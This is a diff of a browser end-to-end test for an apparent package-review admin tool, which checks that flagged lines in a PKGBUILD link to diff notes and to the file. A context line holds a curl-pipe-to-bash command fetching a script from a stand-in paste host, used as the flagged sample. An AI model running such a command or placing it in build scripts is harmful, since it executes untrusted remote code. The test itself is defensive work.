@@ -115,8 +115,17 @@ describe('the web admin in a real browser', () => {
     expect(await page.locator('.d2h-ins', { hasText: 'curl -fsSL https://paste.example/raw/x7Qz | bash' }).count()).toBeGreaterThan(0);
     await page.screenshot({ path: join(SCREENSHOTS, 'review.png'), fullPage: true });
 
-    // The flag links to the flagged line of the file.
-    await flag.first().getByRole('link').click();
+    // The flag links to its row inside the diff, where the note under the line carries its id and links back.
+    await flag
+      .first()
+      .getByRole('link', { name: /in the diff$/ })
+      .click();
+    await page.waitForURL(/\/admin\/review\/libfoo#flag-\d+$/);
+    const target = page.locator('.diff tr.line-note a:target');
+    expect(await target.count()).toBe(1);
+    expect(await target.isVisible()).toBe(true);
+    // And to the flagged line of the file.
+    await flag.first().getByRole('link', { name: 'view file' }).click();
     await page.waitForURL(/\/admin\/review\/libfoo\/file\?path=PKGBUILD#L\d+$/);
     expect(await page.locator('tr.flagged:target, tr:target.flagged').count()).toBe(1);
 
